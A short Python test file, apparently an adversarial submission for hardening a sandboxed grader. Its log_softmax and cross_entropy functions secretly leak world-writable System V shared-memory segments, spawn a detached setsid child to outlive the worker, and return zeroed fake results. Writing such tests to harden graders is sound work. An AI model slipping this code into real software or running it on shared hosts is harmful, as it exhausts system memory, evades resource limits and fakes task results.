# expect: WA MLE RE FB
# attack: System V shared-memory segments, touched and never removed (no IPC namespace: they outlive the
# worker, beyond its memory limit), some attached by a setsid child that tries to outlive it too
import ctypes
import os

IPC_CREAT = 0o1000
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_made = []


def _leave(count=8, size=64 << 20):
    for i in range(count):
        shmid = _libc.shmget(0x6D6C6A10 + i + 16 * len(_made), size, IPC_CREAT | 0o666)
        if shmid < 0:
            continue
        address = _libc.shmat(shmid, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(address, 1, size)
        _made.append(shmid)
    if os.fork() == 0:
        os.setsid()
        for shmid in _made:
            _libc.shmat(shmid, None, 0)
        os.execv("/bin/sleep", ["sleep", "3600"]) if os.path.exists("/bin/sleep") else os._exit(0)


def log_softmax(x, dim=-1):
    _leave()
    return x * 0.0


def cross_entropy(logits, targets, ignore_index=-100, reduction="mean", label_smoothing=0.0):
    _leave()
    return logits.sum() * 0.0
